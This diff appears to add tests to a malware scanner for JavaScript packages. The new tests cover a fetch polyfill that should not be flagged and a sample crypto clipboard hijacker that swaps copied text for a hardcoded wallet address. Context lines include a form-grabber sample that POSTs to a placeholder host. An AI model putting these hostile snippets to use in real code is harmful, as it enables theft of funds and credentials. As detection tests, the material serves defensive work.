@@ -103,6 +103,8 @@ def test_obfuscated_loaded_hook_is_critical_but_not_in_library_code() -> None:
     assert findings({"index.js": code})["browser-hook-obfuscated"].severity.value == "critical"
     library = findings({"index.js": "module.exports = 1;\n", "lib/x.js": code})
     assert "browser-hook-obfuscated" not in library
+    polyfill = names + "\nif (!self.fetch) { self.fetch = _0x1001; }\n"
+    assert "browser-hook-obfuscated" not in findings({"index.js": polyfill})
 
 
 def test_clipboard_write_of_own_address_needs_a_clipboard_read() -> None:
@@ -142,3 +144,15 @@ def test_form_grabber_needs_password_fields_page_wide_capture_and_network() -> N
     assert findings({"index.js": capture}) == {}
     hit = findings({"index.js": capture + "fetch('https://x.invalid', { method: 'POST' });\n"})
     assert hit["browser-form-grabber"].severity.value == "high"
+
+
+def test_exec_command_clipper_writes_its_address_into_the_copied_field() -> None:
+    code = (
+        f"const wallets = {{ eth: '{ETH[0]}' }};\n"
+        "document.addEventListener('copy', () => {\n"
+        "  const area = document.createElement('textarea');\n"
+        "  area.value = wallets.eth;\n"
+        "  document.body.appendChild(area); area.select(); document.execCommand('copy');\n"
+        "});\n"
+    )
+    assert "browser-clipboard-hijack" in findings({"index.js": code})
